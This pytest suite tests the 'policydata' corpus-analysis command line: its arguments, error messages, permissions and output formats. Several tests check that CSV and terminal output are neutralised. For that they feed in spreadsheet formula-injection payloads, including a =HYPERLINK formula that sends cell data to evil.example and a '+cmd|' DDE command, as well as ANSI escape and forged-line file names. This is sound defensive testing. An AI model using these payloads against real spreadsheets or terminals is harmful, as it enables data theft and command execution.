"""The command line, through the installed ``policydata`` console script."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import reference as ref
from conftest import SEEDS, shared_corpus, write_article

from policydata import analysis as an
from policydata.columns import COLUMNS
from policydata.filters import Filter
from policydata.store import open_index

SCRIPT = shutil.which("policydata", path=str(Path(sys.executable).parent))


def run(*args: str, cache: Path, check: bool = True) -> subprocess.CompletedProcess[str]:
    assert SCRIPT, "the policydata console script is not installed in this environment"
    result = subprocess.run([SCRIPT, *args, "--cache-dir", str(cache)], capture_output=True,
                            text=True, timeout=300)
    if check:
        assert result.returncode == 0, result.stderr
    return result


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_info_of_the_seed(cache: Path) -> None:
    info = json.loads(run("info", "--corpus", str(SEEDS), "--format", "json", cache=cache).stdout)
    assert (info["documents"], info["words"], info["first_date"]) == (1, 491, "2023-09-02")
    assert {"documents", "words", "first_date", "last_date", "sources", "skipped"} <= set(info)


def test_trend_of_the_seed(cache: Path) -> None:
    out = run("trend", "digital economy", "real economy", "China", "--corpus", str(SEEDS),
              "--freq", "month", "--format", "csv", cache=cache).stdout
    assert out.splitlines()[0] == ",".join(COLUMNS["trend"])
    assert [(r["period"], r["term"], r["count"]) for r in rows(out)] == [
        ("2023-09", "digital economy", "10"), ("2023-09", "real economy", "10"),
        ("2023-09", "China", "7")]


def test_top_drops_nested_terms_like_the_word_clouds(cache: Path) -> None:
    def top(*extra: str) -> list[str]:
        out = run("top", "--corpus", str(SEEDS), "--n", "6", "--ngram", "1-2", *extra,
                  "--format", "csv", cache=cache).stdout
        return [r["term"] for r in rows(out)]

    # "real" occurs only inside "real economy" (10 times each); "digital" once outside
    assert top()[-1] == "real"
    assert top("--drop-nested") == [*top()[:-1], "real economy"]


def test_top_keyness_against_other_articles_as_the_two_clouds_compare(corpus: Path,
                                                                       cache: Path) -> None:
    # The word clouds' A against B (a second period, or a second theme), on the command line
    def top(*extra: str) -> list[dict[str, str]]:
        return rows(run("top", "--corpus", str(corpus), "--weight", "keyness", "--n", "200",
                        "--format", "csv", *extra, cache=cache).stdout)

    index = open_index(corpus, cache_dir=cache)
    a = Filter(start=dt.date(2022, 1, 1), end=dt.date(2022, 12, 31))
    b = Filter(start=dt.date(2023, 1, 1), end=dt.date(2023, 12, 31))
    against = top("--from", "2022-01-01", "--to", "2022-12-31", "--against-from",
                  "2023-01-01", "--against-to", "2023-12-31")
    expected = an.top_terms(index, a, n=200, weight="keyness", reference=b)
    assert [r["term"] for r in against] == expected["term"].tolist() and len(against) > 5
    assert [float(r["score"]) for r in against] == pytest.approx(expected["score"].tolist())
    # (not the rest of the corpus: here that is the same 2023, so compare with 2023's half)
    half = top("--from", "2022-01-01", "--to", "2022-12-31", "--against-from", "2023-07-01")
    assert [float(r["score"]) for r in half] != [float(r["score"]) for r in against]
    # a second theme instead of the first, dates kept
    theme = index.themes.names[0]
    by_theme = top("--theme", theme, "--against-theme", index.themes.names[1])
    expected = an.top_terms(index, Filter(themes=(theme,)), n=200, weight="keyness",
                            reference=Filter(themes=(index.themes.names[1],)))
    assert [r["term"] for r in by_theme] == expected["term"].tolist()
    for bad, said in [(["--against-from", "2023-01-01"], "--against-from needs --weight keyness"),
                      (["--weight", "keyness", "--against-from", "2024-01-01", "--against-to",
                        "2023-01-01"], "start on 2024-01-01, after their last date"),
                      (["--weight", "keyness", "--against-theme", "nope"], "unknown theme"),
                      (["--weight", "keyness", "--against-from", "2030-01-01"],
                       "no article to compare with: --against-from, with the other filters, "
                       "select none")]:
        failed = run("top", "--corpus", str(corpus), *bad, cache=cache, check=False)
        assert failed.returncode == 2 and said in failed.stderr, failed.stderr


def test_en_sotu_loads_and_reports_what_it_skips(cache: Path) -> None:
    corpus = shared_corpus("en-sotu")
    info = json.loads(run("info", "--corpus", str(corpus), "--format", "json",
                          cache=cache).stdout)
    assert info["documents"] == 233
    skipped = {item["path"]: item["reason"] for item in info["skipped"]}
    assert set(skipped) == {"MANIFEST.md", "index.tsv"}
    assert all(reason for reason in skipped.values())


@pytest.mark.parametrize(("command", "extra"), [
    ("trend", ["economy"]), ("themes", []), ("top", ["--n", "5"]),
    # (the library adds what keyness and tf-idf weigh by; the command line keeps its four)
    ("top", ["--n", "5", "--weight", "tfidf"]),
    ("top", ["--n", "5", "--weight", "keyness", "--from", "2023-01-01"]),
    ("kwic", ["digital economy"]), ("articles", ["--query", "economy"]),
])
def test_every_command_has_exactly_its_columns(corpus: Path, cache: Path, command: str,
                                              extra: list[str]) -> None:
    # (Each command finds something in the small corpus, so the JSON rows are checked too:
    # an empty list would pass any column check.)
    out = run(command, *extra, "--corpus", str(corpus), "--format", "csv", cache=cache).stdout
    assert out.splitlines()[0].split(",") == COLUMNS[command]
    assert len(out.splitlines()) > 1, out
    data = json.loads(run(command, *extra, "--corpus", str(corpus), "--format", "json",
                          cache=cache).stdout)
    assert isinstance(data, list) and data, data
    assert all(list(row) == COLUMNS[command] for row in data)
    table = run(command, *extra, "--corpus", str(corpus), cache=cache).stdout
    assert table.strip()


def test_filters_mean_the_same_everywhere(corpus: Path, cache: Path) -> None:
    common = ["--corpus", str(corpus), "--from", "2023-01-01", "--to", "2023-06-30",
              "--source", "miit", "--format", "csv"]
    articles = rows(run("articles", *common, "--sort", "date", cache=cache).stdout)
    assert [r["id"] for r in articles] == ["miit/012", "miit/014", "miit/016"]
    trend = rows(run("trend", "digital economy", *common, "--freq", "year", cache=cache).stdout)
    assert [(r["period"], r["count"]) for r in trend] == [("2023", str(0 + 2 + 0))]
    # A source or theme typed in another case stands for the known one, as in a link.
    loud = [a if a != "miit" else "MIIT" for a in common]
    assert rows(run("articles", *loud, "--sort", "date", cache=cache).stdout) == articles
    assert (run("themes", "--theme", "DIGITAL economy", *common, cache=cache).stdout
            == run("themes", "--theme", "Digital economy", *common, cache=cache).stdout)


@pytest.mark.parametrize(("args", "said"), [
    (["trend", "x", "--from", "2023-02-30"], "is not a date"),
    (["trend", "x", "--from", "2023-03-01", "--to", "2023-01-01"], "is after"),
    # (Python's date parser also reads these; the help promises YYYY-MM-DD)
    (["trend", "x", "--from", "2023-W01"], "'2023-W01' is not a date; use YYYY-MM-DD"),
    (["articles", "--to", "20230901"], "'20230901' is not a date; use YYYY-MM-DD"),
    (["themes", "--theme", "Nope"], "unknown theme 'Nope'"),
    (["articles", "--source", "nowhere"], "unknown source"),
    (["trend", "U.S. economy"], "ends a sentence"),
    (["trend", "economy."], "a phrase never matches across it: leave out the '.' at its end"),
    (["trend", "!!!"], "query '!!!' has no words (letters or digits)"),  # (not "ends a sentence")
    (["trend", "---"], "query '---' has no words (letters or digits)"),  # (not "TERM needed")
    (["kwic", "a*b"], "must end a word"),
    (["top", "--ngram", "4"], "between 1 and 3"),
    (["trend", "x", "--freq", "weekly"], "invalid choice"),
    (["themes", "--themes", "/no/such/file.toml"], "does not exist"),
    # A device is refused before it is read (an endless one would be read until memory
    # runs out); see also the pipe and the large file below.
    (["themes", "--themes", "/dev/zero"], "is not a file (a device, pipe or socket)"),
    (["top", "--stopwords", "/dev/zero"], "is not a file (a device, pipe or socket)"),
    # Counts of rows, terms or processes ask for something: 0 is refused, not read as "one"
    # (`kwic --limit 0` printed a line) or as "the default" (`build --jobs 0`).
    (["kwic", "China", "--limit", "0"], "argument --limit: '0' must be 1 or more"),
    (["articles", "--limit", "0"], "argument --limit: '0' must be 1 or more"),
    (["top", "--n", "0"], "argument --n: '0' must be 1 or more"),
    (["build", "--jobs", "0"], "argument --jobs: '0' must be 1 or more"),
    (["kwic", "China", "--window", "-1"], "argument --window: '-1' must be 0 or more"),
    # (a wider window copies whole articles into every line: minutes for a common word)
    (["kwic", "China", "--window", "51"], "argument --window: '51' is more than 50 words"),
    (["kwic", "China", "--limit", "two"], "'two' is not a whole number"),
    (["kwic", "China", "--limit", "-1"], "argument --limit: '-1' must be 1 or more"),
    (["kwic", "China", "--sort", "title"], "invalid choice: 'title'"),
    # A summary is an object, not rows: its help offers no CSV, and serve prints nothing.
    (["info", "--format", "csv"], "invalid choice: 'csv' (choose from 'table', 'json')"),
    (["build", "--format", "csv"], "invalid choice: 'csv' (choose from 'table', 'json')"),
    (["serve", "--format", "json"], "unrecognized arguments: --format json"),
])
def test_bad_arguments_give_one_line_and_status_2(corpus: Path, cache: Path, args: list[str],
                                                  said: str) -> None:
    result = run(*args, "--corpus", str(corpus), cache=cache, check=False)
    assert result.returncode == 2
    assert said in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr


def test_a_cache_location_set_to_a_file_is_refused_from_the_environment_too(
        corpus: Path, tmp_path: Path) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("")
    for env, args in (({}, ["--cache-dir", str(a_file)]), ({"POLICYDATA_CACHE_DIR": str(a_file)}, [])):
        result = subprocess.run([SCRIPT, "trend", "x", "--corpus", str(corpus), *args],
                                env=dict(os.environ, **env), capture_output=True, text=True,
                                timeout=120)
        assert result.returncode == 2 and "is a file, not a folder" in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_what_this_user_cannot_read_is_an_error_and_a_cache_it_cannot_reach_falls_back(
        ) -> None:
    """Permissions, as a user they apply to (root reads everything: the command runs as
    nobody where it can)."""
    as_other = []
    if os.geteuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("running as root without setpriv: permissions do not apply")
        as_other = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="policydata-test-"))  # (pytest's folders are private)
    root.chmod(0o755)
    for folder in (root / "corpus", root / "shut" / "corpus", root / "unreadable"):
        write_article(folder, "a.txt", "2023-09-02", "Digital", "The digital economy grows.")
    (root / "shut").chmod(0)
    (root / "unreadable").chmod(0)
    (root / "corpus" / "secret.txt").write_text(" date 2023-09-02 Secret\n\nbody")
    (root / "corpus" / "secret.txt").chmod(0)
    env = dict(os.environ, TMPDIR=str(root), POLICYDATA_CACHE_DIR=str(root / "cache"))

    def policydata(*args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*as_other, SCRIPT, "trend", "digital economy", *args,
                               "--format", "csv"], env=dict(env, **extra),
                              capture_output=True, text=True, timeout=120)

    try:
        for corpus in (root / "shut" / "corpus", root / "shut" / "corpus" / "a.txt",
                       root / "unreadable", root / "corpus" / "secret.txt"):
            result = policydata("--corpus", str(corpus))
            assert result.returncode == 2, result.stderr
            assert result.stderr.strip() == (f"policydata: error: corpus path '{corpus}' "
                                             "cannot be read: Permission denied")
        # A cache location that cannot be reached: the fallback, said, whether it comes from
        # the option or the environment; and the unreadable file reported, not counted.
        for args, extra in ((["--cache-dir", str(root / "shut" / "cache")], {}),
                            ([], {"POLICYDATA_CACHE_DIR": str(root / "shut")})):
            result = policydata("--corpus", str(root / "corpus"), *args, **extra)
            assert result.returncode == 0, result.stderr
            assert rows(result.stdout)[0]["count"] == "1"
            assert "cannot be written (Permission denied); using" in result.stderr
            assert "Traceback" not in result.stderr
    finally:
        for path in (root / "shut", root / "unreadable", root / "corpus" / "secret.txt"):
            path.chmod(0o755)
        shutil.rmtree(root)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
@pytest.mark.parametrize("option", [["themes", "--themes"], ["top", "--stopwords"]])
def test_a_pipe_or_a_huge_word_file_is_refused_not_waited_for(corpus: Path, cache: Path,
                                                              tmp_path: Path,
                                                              option: list[str]) -> None:
    pipe = tmp_path / "words.fifo"
    os.mkfifo(pipe)  # (opening it to read would wait for a writer forever)
    result = run(*option, str(pipe), "--corpus", str(corpus), cache=cache, check=False)
    assert result.returncode == 2, result.stderr
    assert "is not a file (a device, pipe or socket)" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as handle:  # (sparse: 11 MB that take no room)
        handle.truncate(11 * 2**20)
    result = run(*option, str(huge), "--corpus", str(corpus), cache=cache, check=False)
    assert result.returncode == 2 and "larger than 10 MB" in result.stderr


def test_small_counts_are_what_they_say(corpus: Path, cache: Path) -> None:
    # --limit 1 is one line and --window 0 the match alone (0 words each side)
    lines = rows(run("kwic", "digital economy", "--limit", "1", "--window", "0", "--corpus",
                     str(corpus), "--format", "csv", cache=cache).stdout)
    assert len(lines) == 1
    assert (lines[0]["left"], lines[0]["match"], lines[0]["right"]) == ("", "digital economy", "")
    assert len(rows(run("articles", "--limit", "1", "--corpus", str(corpus), "--format", "csv",
                        cache=cache).stdout)) == 1
    # `--sort -date` as written in the table of commands (argparse took -date for an option)
    newest = rows(run("articles", "--sort", "-date", "--corpus", str(corpus), "--format",
                      "csv", cache=cache).stdout)
    assert [r["date"] for r in newest] == sorted((r["date"] for r in newest), reverse=True)
    assert len({r["date"] for r in newest}) > 1


def test_kwic_lines_come_in_the_order_of_the_article_list(corpus: Path, cache: Path) -> None:
    # --sort orders the articles as `articles --sort` does; an article's lines stay together
    for sort in ("date", "-date", "hits"):
        lines = rows(run("kwic", "economy", "--sort", sort, "--limit", "all", "--corpus",
                         str(corpus), "--format", "csv", cache=cache).stdout)
        listed = rows(run("articles", "--query", "economy", "--sort", sort, "--corpus",
                          str(corpus), "--format", "csv", cache=cache).stdout)
        assert len(lines) == sum(int(r["hits"]) for r in listed) and len(listed) > 2
        runs = [doc for k, doc in enumerate(r["id"] for r in lines)
                if not k or lines[k - 1]["id"] != doc]
        assert runs == [r["id"] for r in listed], sort


def test_kwic_by_sorts_every_line_as_a_concordance(corpus: Path, cache: Path) -> None:
    # --by sorts all the lines, then --limit keeps the first: the lines of --limit all sorted
    everything = rows(run("kwic", "economy", "--limit", "all", "--window", "3", "--corpus",
                          str(corpus), "--format", "csv", cache=cache).stdout)
    assert len(everything) > 5
    for by in ("after", "before"):
        order = ref.concordance_order([(r["left"], r["right"]) for r in everything], by)
        for limit in ("all", "5"):
            got = rows(run("kwic", "economy", "--by", by, "--limit", limit, "--window", "3",
                           "--corpus", str(corpus), "--format", "csv", cache=cache).stdout)
            expected = [everything[i] for i in order][:None if limit == "all" else 5]
            assert got == expected, (by, limit)
            assert got != everything[:len(got)]  # (the order did change)
    wrong = run("kwic", "economy", "--by", "middle", "--corpus", str(corpus), cache=cache,
                check=False)
    assert wrong.returncode == 2 and "--by: invalid choice: 'middle'" in wrong.stderr


def test_help_gives_the_defaults() -> None:
    def help_of(command: str) -> str:
        return " ".join(subprocess.run([SCRIPT, command, "--help"], capture_output=True,
                                       text=True, timeout=60, check=True).stdout.split())

    assert "(default: count)" in help_of("top") and "(default: 1)" in help_of("top")
    assert "(default: -date)" in help_of("articles")
    assert "(default: 8)" in help_of("kwic") and "(default: 100;" in help_of("kwic")
    assert "TERM a word or phrase" in help_of("kwic") and "TERM a word or phrase" in help_of(
        "trend")
    assert "(default: 8501)" in help_of("serve")
    assert "(default: 2, or 1 on a single CPU)" in help_of("build")


def test_serve_without_a_clone_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    # After `pip install .` (not -e) the package lives in site-packages, and the folder two
    # levels above it holds neither the dashboard nor the bundled seeds: say so on one line
    # instead of starting Streamlit on a missing file.
    from policydata import cli

    monkeypatch.setattr(cli, "PROJECT", tmp_path)
    monkeypatch.setattr(cli, "DASHBOARD", tmp_path / "dashboard" / "app.py")
    monkeypatch.delenv("POLICYDATA_CORPUS", raising=False)
    built: list[object] = []
    monkeypatch.setattr("policydata.store.build_index", lambda *a, **k: built.append(a))
    assert cli.main(["serve", "--corpus", str(SEEDS), "--cache-dir", str(tmp_path / "c")]) == 1
    err = capsys.readouterr().err
    assert err == (f"policydata: error: {tmp_path / 'dashboard' / 'app.py'} does not exist: the "
                   "dashboard and the bundled seeds/ are run from a clone of the repository "
                   "installed with 'pip install -e .'\n")
    assert built == []  # it failed before building an index
    # with no corpus given, the missing seeds are explained the same way (a usage error)
    assert cli.main(["info", "--cache-dir", str(tmp_path / "c")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no corpus given: pass --corpus PATH" in err
    assert "installed with 'pip install -e .'" in err


def test_missing_corpus_path(cache: Path, tmp_path: Path) -> None:
    result = run("info", "--corpus", str(tmp_path / "nowhere"), cache=cache, check=False)
    assert result.returncode == 2
    assert result.stderr.strip() == (f"policydata: error: corpus path "
                                     f"'{tmp_path / 'nowhere'}' does not exist")


def test_a_corpus_path_that_is_a_pipe(cache: Path, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    result = run("info", "--corpus", str(tmp_path / "pipe"), cache=cache, check=False)
    assert result.returncode == 2
    assert result.stderr.strip() == (f"policydata: error: corpus path '{tmp_path / 'pipe'}' is "
                                     "not a folder or a file (a device, pipe or socket)")


def test_build_reports_and_reuses(corpus: Path, cache: Path) -> None:
    first = json.loads(run("build", "--corpus", str(corpus), "--format", "json",
                           cache=cache).stdout)
    again = json.loads(run("build", "--corpus", str(corpus), "--format", "json",
                           cache=cache).stdout)
    assert (first["tokenised"], again["tokenised"]) == (24, 0)
    assert not run("build", "--corpus", str(corpus), cache=cache).stderr  # no bar off a tty


@pytest.mark.parametrize("size", [(24, 100), (0, 0)], ids=["100 columns", "no size"])
def test_progress_bar_on_a_terminal(corpus: Path, cache: Path, size: tuple[int, int]) -> None:
    """Under a pseudo-terminal the build draws a progress bar on stderr, also on one that
    says it has no size (``script``, containers: tqdm then drew nothing)."""
    import fcntl
    import os
    import pty
    import struct
    import termios

    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", *size, 0, 0))
    process = subprocess.Popen([SCRIPT, "build", "--rebuild", "--corpus", str(corpus),
                                "--cache-dir", str(cache)],
                               stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    output = b""
    while True:
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        output += chunk
    process.wait(timeout=120)
    os.close(leader)
    assert process.returncode == 0
    assert b"reading" in output or b"indexing" in output or b"scanning" in output


def test_theme_file_replaces_the_default(corpus: Path, cache: Path, tmp_path: Path) -> None:
    themes = tmp_path / "mine.toml"
    themes.write_text('[themes]\n"Mine" = ["digital economy", "real economy"]\n')
    out = rows(run("themes", "--themes", str(themes), "--corpus", str(corpus), "--freq", "year",
                   "--format", "csv", cache=cache).stdout)
    assert [(r["period"], r["theme"], r["count"]) for r in out] == [
        ("2022", "Mine", str(18 + 12)), ("2023", "Mine", str(18 + 12))]
    bad = tmp_path / "bad.toml"
    bad.write_text("[themes\n")
    result = run("themes", "--themes", str(bad), "--corpus", str(corpus), cache=cache,
                 check=False)
    assert result.returncode == 2 and "not valid TOML" in result.stderr


def test_table_output_shows_control_characters_as_codes(tmp_path: Path, cache: Path) -> None:
    # A title or file name must not be able to move the terminal's cursor or forge a line.
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_bytes(b" date 2023-10-06 ANSI \x1b[31mRED\x07\n\nbody\n")
    (corpus / "nl\nfake: loaded fine.docx").write_bytes(b"x")
    table = run("articles", "--corpus", str(corpus), cache=cache).stdout
    assert "\x1b" not in table and "\x07" not in table and "\\x1b[31mRED\\x07" in table
    info = run("info", "--corpus", str(corpus), cache=cache).stdout
    assert "  nl\\nfake: loaded fine.docx: unsupported file type" in info
    assert not any(line.startswith("fake") for line in info.splitlines())


@pytest.mark.parametrize(("args", "message"), [
    (["info", "--themes", "."], "cannot be read"),
    (["serve", "--port", "99999999"], "is not a port"),
])
def test_more_bad_arguments_give_one_line(args: list[str], message: str, cache: Path) -> None:
    result = run(*args, "--corpus", str(SEEDS), cache=cache, check=False)
    assert result.returncode == 2 and message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


@pytest.mark.parametrize(("command", "extra"), [
    ("trend", ["economy", "--freq", "year"]), ("themes", ["--freq", "year"]),
    ("top", ["--n", "2"]), ("kwic", ["economy"]), ("articles", []),
])
def test_analyses_note_what_was_not_loaded_on_stderr(tmp_path: Path, cache: Path, command: str,
                                                      extra: list[str]) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_text(" date 2023-09-02 A\n\nThe digital economy.\n")
    (corpus / "b.txt").write_text(" date 2023-02-30 B\n\nAn impossible date.\n")
    (corpus / "c.docx").write_bytes(b"PK\x03\x04")
    for fmt in ("csv", "table"):
        result = run(command, *extra, "--corpus", str(corpus), "--format", fmt, cache=cache)
        assert result.stderr == ("policydata: note: 2 files or rows were not loaded; see "
                                 "'policydata info'\n")
        if fmt == "csv":  # the output itself is as it was
            assert result.stdout.splitlines()[0] == ",".join(COLUMNS[command])
            assert "note" not in result.stdout
    (corpus / "c.docx").unlink()
    result = run(command, *extra, "--corpus", str(corpus), "--format", "csv", cache=cache)
    assert result.stderr == ("policydata: note: 1 file or row was not loaded; see "
                             "'policydata info'\n")
    # An exact duplicate was loaded, and counted once: said as such.
    (corpus / "a2.txt").write_text(" date 2023-09-02 A\n\nThe digital economy.\n")
    result = run(command, *extra, "--corpus", str(corpus), "--format", "csv", cache=cache)
    assert result.stderr == ("policydata: note: 1 file or row was not loaded and 1 exact "
                             "duplicate was counted once; see 'policydata info'\n")
    (corpus / "b.txt").unlink()
    result = run(command, *extra, "--corpus", str(corpus), "--format", "csv", cache=cache)
    assert result.stderr == ("policydata: note: 1 exact duplicate was counted once; see "
                             "'policydata info'\n")
    # Filters that select nothing give an output of no rows: said, with the corpus's dates.
    result = run(command, *extra, "--corpus", str(corpus), "--format", "csv",
                 "--from", "2030-01-01", cache=cache)
    assert result.stderr.endswith("policydata: note: the filters select no documents (the "
                                  "corpus's are dated 2023-09-02 to 2023-09-02)\n")


@pytest.mark.parametrize("command", [["trend", "economy"], ["themes"], ["top"], ["kwic", "x"],
                                     ["articles"]])
def test_an_empty_corpus_is_said_on_stderr(tmp_path: Path, cache: Path,
                                           command: list[str]) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "bad.txt").write_text("no header\n")
    result = run(*command, "--corpus", str(corpus), cache=cache)
    assert (result.returncode, result.stdout) == (0, "(no rows)\n")
    assert result.stderr == ("policydata: note: the corpus has no documents (1 file or row was "
                             "not loaded; see 'policydata info')\n")
    (corpus / "bad.txt").unlink()
    result = run(*command, "--corpus", str(corpus), "--format", "json", cache=cache)
    assert (result.stdout, result.stderr) == ("[]\n", "policydata: note: the corpus has no "
                                                      "documents\n")


def test_info_of_an_empty_corpus(tmp_path: Path, cache: Path) -> None:
    (tmp_path / "c").mkdir()
    result = run("info", "--corpus", str(tmp_path / "c"), cache=cache)
    assert "dates       no documents\n" in result.stdout and "None" not in result.stdout
    assert result.stderr == ""


def test_info_table_lists_unreadable_files_before_duplicates(tmp_path: Path,
                                                              cache: Path) -> None:
    # 60 copies of one article, and a file with no date whose path sorts after them all: the
    # table's 50 lines must show the file that could not be read.
    corpus = tmp_path / "c"
    for k in range(61):
        write_article(corpus, f"a{k:03}.txt", "2023-09-02", "Copy", "The same text.")
    (corpus / "zz-broken.txt").write_text("no header here\n\nbody\n")
    out = run("info", "--corpus", str(corpus), cache=cache).stdout
    skipped = out[out.index("\nskipped"):out.index("\nwarnings")].splitlines()[1:]
    assert skipped[0] == "skipped     61 (60 of them exact duplicates, listed last)"
    assert skipped[1].startswith("  zz-broken.txt: no date: the first line"), skipped[:3]
    assert all(": exact duplicate of 'a000' " in line for line in skipped[2:51]), skipped
    assert skipped[51:] == ["  ... and 11 more (--format json lists all)"]


@pytest.mark.parametrize(("freq", "note"), [
    ("month", "policydata: note: 2 documents are dated by year only: counted in the first "
              "month of the year\n"),
    ("quarter", "policydata: note: 2 documents are dated by year only: counted in the first "
                "quarter of the year\n"),
    ("year", ""),
])
def test_year_dates_in_months_or_quarters_are_noted(tmp_path: Path, cache: Path, freq: str,
                                                    note: str) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_text(" date 2023-09-02 A\n\nThe digital economy.\n")
    (corpus / "b.txt").write_text(" date 2023-09 B\n\nThe digital economy.\n")  # exact month
    (corpus / "c.txt").write_text(" date 2022 C\n\nThe digital economy.\n")
    (corpus / "d.txt").write_text(" date 2021 D\n\nThe real economy.\n")
    for command in (["trend", "digital"], ["themes"]):
        result = run(*command, "--freq", freq, "--corpus", str(corpus), "--format", "csv",
                     cache=cache)
        assert result.stderr == note
    # only the articles the filter keeps are counted
    result = run("trend", "x", "--freq", freq, "--from", "2022-01-01", "--corpus", str(corpus),
                 cache=cache)
    assert result.stderr == note.replace("2 documents are", "1 document is")


@pytest.mark.parametrize(("freq", "noted"), [("month", True), ("quarter", True),
                                           ("year", False)])
def test_dates_all_on_1_january_are_noted_in_months_and_quarters(tmp_path: Path, cache: Path,
                                                                freq: str, noted: bool) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    for year in (2019, 2020, 2021):
        (corpus / f"{year}.txt").write_text(f" date {year}-01-01 Report {year}\n\nText.\n")
    note = ("policydata: note: all 3 documents dated to the day are dated 1 January: if those "
            "dates stand for years, --freq year shows them as such\n")
    for command in (["trend", "text"], ["themes"]):
        result = run(*command, "--freq", freq, "--corpus", str(corpus), "--format", "csv",
                     cache=cache)
        assert result.stderr == (note if noted else "")
    # one real day among them: no note
    (corpus / "x.txt").write_text(" date 2021-06-30 Midyear\n\nText.\n")
    assert run("trend", "text", "--freq", freq, "--corpus", str(corpus), cache=cache).stderr == ""


@pytest.mark.parametrize("option", ["--corpus", "--cache-dir", "--themes"])
def test_an_empty_path_is_a_bad_argument(option: str, tmp_path: Path) -> None:
    # Path("") is the current folder: `--corpus ""` used to read it without a word
    env = dict(os.environ, POLICYDATA_CACHE_DIR=str(tmp_path.parent / "cache-of-empty-path"))
    result = subprocess.run([SCRIPT, "trend", "x", option, ""], capture_output=True, text=True,
                            timeout=300, cwd=tmp_path, env=env)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == (f"policydata trend: error: argument {option}: an empty path; "
                             "give a folder or file\n")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("cell", "written"), [
    ("plain", "plain"),
    ("alpha\rbeta", '"alpha\rbeta"'),  # a lone CR is a line end to readers: quoted
    ("alpha\nbeta", '"alpha\nbeta"'),
    ("alpha\r\nbeta", '"alpha\r\nbeta"'),
    ('=HYPERLINK("https://evil.example/?d="&A2,"Click")',
     '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"'),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "\"'\r=1+1\""),
    ("-2.5", "-2.5"),  # a plain number stays as it is
    ("+7", "+7"),
    ("-1e-3", "-1e-3"),
    ("-.5", "-.5"),
    ("-", "'-"),
    ("a=b", "a=b"),
    (" =1", " =1"),
    ("", ""),
    # a NUL is written as the tables write it: readers cut a field, or refuse the file, at one
    ("a\0b", "a\\x00b"),
    ("\0=1+1", "\\x00=1+1"),
])
def test_csv_cells_cannot_split_rows_or_run_as_formulas(cell: str, written: str) -> None:
    import pandas as pd

    from policydata.columns import csv_text, frame_csv

    frame = pd.DataFrame({"term": [cell], "count": [-1], "docs": [2], "score": [-2.5]})
    assert csv_text(frame, "top") == f"term,count,docs,score\n{written},-1,2,-2.5\n"
    assert frame_csv(frame.rename(columns={"term": "other"})) == (
        f"other,count,docs,score\n{written},-1,2,-2.5\n")
    # read back, each is one row holding what was written (less the quote, for formulas)
    (row,) = rows(csv_text(frame, "top"))
    assert row["term"] in (cell, "'" + cell, cell.replace("\0", "\\x00"))
    assert row["score"] == "-2.5"


def test_frame_csv_neutralises_text_of_any_column(tmp_path: Path) -> None:
    import datetime as dt

    import pandas as pd

    from policydata.columns import frame_csv

    frame = pd.DataFrame({
        "when": [dt.date(2023, 9, 2), dt.date(2023, 9, 3)],
        "mixed": pd.Series(["@x", 5], dtype=object),
        "label": pd.Categorical(["=a", "b"]),
        "flag": [True, False],
        "change": [-0.5, 1.0],
        7: ["-x", "y"],
    })
    assert frame_csv(frame) == ("when,mixed,label,flag,change,7\n"
                                "2023-09-02,'@x,'=a,True,-0.5,'-x\n"
                                "2023-09-03,5,b,False,1.0,y\n")


def test_cli_csv_is_safe_in_spreadsheets_and_json_is_as_written(tmp_path: Path,
                                                               cache: Path) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    title = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    (corpus / "a.txt").write_text(f" date 2023-09-02 {title}\n\nThe digital economy.\n")
    out = run("articles", "--corpus", str(corpus), "--format", "csv", cache=cache).stdout
    assert [r["title"] for r in rows(out)] == ["'" + title]
    data = json.loads(run("articles", "--corpus", str(corpus), "--format", "json",
                          cache=cache).stdout)
    assert [r["title"] for r in data] == [title]


def test_info_table_shows_every_value_as_text(tmp_path: Path) -> None:
    # a source (folder) name, a cache path and a title must not reach the terminal as escape
    # sequences or direction overrides
    corpus = tmp_path / "c"
    (corpus / "csv\x1b[31mRED").mkdir(parents=True)
    (corpus / "csv\x1b[31mRED" / "a.txt").write_text(
        " date 2023-09-02 txt.\u202eexe\u200b\n\nThe digital economy.\n")
    cache = tmp_path / "cache\x1b]0;owned\x07"
    info = run("info", "--corpus", str(corpus), cache=cache).stdout
    assert "\x1b" not in info and "\x07" not in info
    assert "sources     csv\\x1b[31mRED (1)\n" in info
    assert "cache\\x1b]0;owned\\x07" in info
